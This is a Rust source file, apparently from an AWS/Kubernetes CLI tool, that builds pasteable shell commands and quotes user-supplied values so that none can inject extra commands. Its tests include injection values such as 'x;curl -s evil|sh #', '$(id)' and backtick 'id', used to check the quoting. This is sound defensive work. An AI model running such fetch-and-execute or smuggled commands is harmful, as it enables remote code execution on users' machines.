@@ -1,0 +1,261 @@
+//! Commands that the user is told to run. They are values, put together from words, so that no text of
+//! others can become more than one word of them; only showing one makes a text for the shell of it.
+
+use std::fmt::{self, Display};
+
+use super::shown::{is_hidden, shown_in_line};
+
+/// A command that can be pasted into a shell.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct CommandLine {
+    /// The program, then its arguments.
+    words: Vec<String>,
+    remark: Option<String>,
+}
+
+impl CommandLine {
+    /// Words that blanks separate; each `{}` in one of them is the next of the values, whatever that
+    /// holds: `CommandLine::of("kubectl create namespace {}", &[&namespace])`.
+    pub fn of(words: &str, values: &[&dyn Display]) -> Self {
+        let empty = Self {
+            words: Vec::new(),
+            remark: None,
+        };
+        empty.and(words, values)
+    }
+
+    /// With more words behind it.
+    pub fn and(mut self, words: &str, values: &[&dyn Display]) -> Self {
+        let mut values = values.iter();
+        for word in words.split_whitespace() {
+            let mut pieces = word.split("{}");
+            let mut filled = pieces.next().unwrap_or_default().to_owned();
+            for piece in pieces {
+                if let Some(value) = values.next() {
+                    filled.push_str(&value.to_string());
+                }
+                filled.push_str(piece);
+            }
+            // A value is never taken for a flag.
+            match self.words.last_mut() {
+                Some(flag) if filled.starts_with('-') && word.starts_with("{}") => {
+                    flag.push('=');
+                    flag.push_str(&filled);
+                }
+                _ => self.words.push(filled),
+            }
+        }
+        debug_assert!(values.next().is_none(), "{words}: a value too many");
+        self
+    }
+
+    /// Something to know of it, which is shown behind `#`.
+    pub fn remark(mut self, text: impl Into<String>) -> Self {
+        self.remark = Some(text.into());
+        self
+    }
+
+    /// With those flags of the run that its program takes, and that it has not yet.
+    pub fn with(self, connection: &Connection) -> Self {
+        let flags = connection.flags_of(&self.words);
+        flags.into_iter().fold(self, |command, (name, value)| {
+            command.and(&format!("{name} {{}}"), &[value])
+        })
+    }
+}
+
+/// As it is pasted. There is no backtick in it, so that it can stand between two.
+impl Display for CommandLine {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        for (index, word) in self.words.iter().enumerate() {
+            let blank = if index == 0 { "" } else { " " };
+            let word = match word.contains('`') {
+                true => escaped(word),
+                false => quoted(word),
+            };
+            write!(f, "{blank}{word}")?;
+        }
+        match &self.remark {
+            Some(remark) => write!(f, "   # {}", shown_in_line(remark)),
+            None => Ok(()),
+        }
+    }
+}
+
+/// What the user gave to find AWS and the cluster, as flags of the programs that commands name.
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub struct Connection {
+    /// Region and profile: `irsactl` and `aws` take them.
+    pub aws: Flags,
+    /// Kubeconfig and context: `irsactl` and `kubectl` take them.
+    pub kubernetes: Flags,
+}
+
+/// Names of flags with their values.
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub struct Flags(pub Vec<(&'static str, String)>);
+
+/// The verbs of irsactl that look at Kubernetes.
+const LOOKING: [&str; 8] = [
+    "apply", "create", "delete", "doctor", "export", "get", "update", "verify",
+];
+
+impl Connection {
+    /// Adds what is missing to each command between backticks of a sentence.
+    pub fn pasteable(&self, sentence: &str) -> String {
+        let pieces = sentence.split('`').enumerate().map(|(index, piece)| {
+            let words: Vec<String> = piece.split(' ').map(str::to_owned).collect();
+            let flags = match index % 2 {
+                0 => Vec::new(),
+                _ => self.flags_of(&words),
+            };
+            flags.iter().fold(piece.to_owned(), |piece, (name, value)| {
+                format!("{piece} {name} {}", quoted(value))
+            })
+        });
+        pieces.collect::<Vec<_>>().join("`")
+    }
+
+    fn flags_of(&self, words: &[String]) -> Vec<&(&'static str, String)> {
+        let word = |index: usize| words.get(index).map_or("", String::as_str);
+        let (aws, kubernetes) = match (word(0), word(1)) {
+            // It is there to mend the flags themselves.
+            ("aws", "configure") => (false, false),
+            ("irsactl", verb) => (true, LOOKING.contains(&verb)),
+            (program, _) => (program == "aws", program == "kubectl"),
+        };
+        let aws = self.aws.0.iter().filter(move |_| aws);
+        let kubernetes = self.kubernetes.0.iter().filter(move |_| kubernetes);
+        let has = |name: &str| {
+            let given = format!("{name}=");
+            words
+                .iter()
+                .any(|word| word == name || word.starts_with(&given))
+        };
+        aws.chain(kubernetes)
+            .filter(|(name, _)| !has(name))
+            .collect()
+    }
+}
+
+/// The word of a POSIX shell that is this text: as it is where no shell takes it for more, else between
+/// single quotes, where nothing has a meaning but their end. What a screen does not show is escaped,
+/// which takes bash, zsh, ksh, or a shell of POSIX.1-2024; in others it is not that text, and no more.
+pub fn quoted(text: &str) -> String {
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c);
+    match () {
+        // zsh looks for a program of the name behind a first `=`.
+        () if !text.is_empty() && !text.starts_with('=') && text.chars().all(is_plain) => {
+            text.to_owned()
+        }
+        () if text.contains(is_hidden) => escaped(text),
+        () => format!("'{}'", text.replace('\'', r"'\''")),
+    }
+}
+
+/// Between `$'` and `'`: each byte of a hidden character, and a backtick, as three octal digits.
+fn escaped(text: &str) -> String {
+    let mut word = "$'".to_owned();
+    for c in text.chars() {
+        match c {
+            '\\' | '\'' => word.extend(['\\', c]),
+            c if c == '`' || is_hidden(c) => {
+                let mut bytes = [0; 4];
+                let bytes = c.encode_utf8(&mut bytes).bytes();
+                word.extend(bytes.map(|byte| format!("\\{byte:03o}")));
+            }
+            c => word.push(c),
+        }
+    }
+    word + "'"
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_value_is_one_word_of_a_command() {
+        for (value, wanted) in [
+            ("api", "aws x --client-id api --yes"),
+            ("", "aws x --client-id '' --yes"),
+            (
+                "x;curl -s evil|sh #",
+                "aws x --client-id 'x;curl -s evil|sh #' --yes",
+            ),
+            ("$(id)", "aws x --client-id '$(id)' --yes"),
+            ("it's", r"aws x --client-id 'it'\''s' --yes"),
+            ("`id`", r"aws x --client-id $'\140id\140' --yes"),
+            (
+                "a\nid\n\u{1b}\u{202e}",
+                r"aws x --client-id $'a\012id\012\033\342\200\256' --yes",
+            ),
+            ("=ls", "aws x --client-id '=ls' --yes"),
+            ("~", "aws x --client-id '~' --yes"),
+            ("--debug", "aws x --client-id=--debug --yes"),
+            ("{}", "aws x --client-id '{}' --yes"),
+        ] {
+            let command = CommandLine::of("aws x --client-id {} --yes", &[&value]);
+            assert_eq!(command.to_string(), wanted);
+        }
+    }
+
+    /// The shell itself is asked.
+    #[test]
+    fn a_shell_reads_each_value_as_it_is() {
+        let values = [
+            "a b",
+            "it's",
+            "`id`\\n",
+            "$HOME",
+            "a\nb\u{1b}",
+            "\u{202e}x'\\",
+            "*",
+            "!x",
+            "#",
+            "=a",
+            "~",
+        ];
+        let values: Vec<&dyn Display> = values.iter().map(|value| value as &dyn Display).collect();
+        let places = "{} ".repeat(values.len());
+        let line = CommandLine::of(&format!("printf %s\\0 {places}"), &values);
+        let shell = std::process::Command::new("bash")
+            .args(["-c", &line.to_string()])
+            .output();
+        let printed = String::from_utf8(shell.expect("bash").stdout).expect("UTF-8");
+        let wanted: String = values.iter().map(|value| format!("{value}\0")).collect();
+        assert_eq!(printed, wanted);
+    }
+
+    #[test]
+    fn commands_take_the_flags_of_the_run() {
+        let connection = Connection {
+            aws: Flags(vec![
+                ("--region", "eu-west-1".to_owned()),
+                ("--profile", "a b".to_owned()),
+            ]),
+            kubernetes: Flags(vec![("--context", "c".to_owned())]),
+        };
+        for (sentence, wanted) in [
+            (
+                "run `irsactl get sa` or `aws sts`",
+                "run `irsactl get sa --region eu-west-1 --profile 'a b' --context c` or `aws sts --region eu-west-1 --profile 'a b'`",
+            ),
+            (
+                "`aws eks list-clusters --region us-east-1`",
+                "`aws eks list-clusters --region us-east-1 --profile 'a b'`",
+            ),
+            (
+                "`aws configure list-profiles` and `kubectl get sa`, or kubectl",
+                "`aws configure list-profiles` and `kubectl get sa --context c`, or kubectl",
+            ),
+        ] {
+            assert_eq!(connection.pasteable(sentence), wanted);
+        }
+        let command = CommandLine::of("aws eks list-clusters --region us-east-1", &[]);
+        assert_eq!(
+            command.remark("all\nof them").with(&connection).to_string(),
+            "aws eks list-clusters --region us-east-1 --profile 'a b'   # all\\nof them"
+        );
+    }
+}
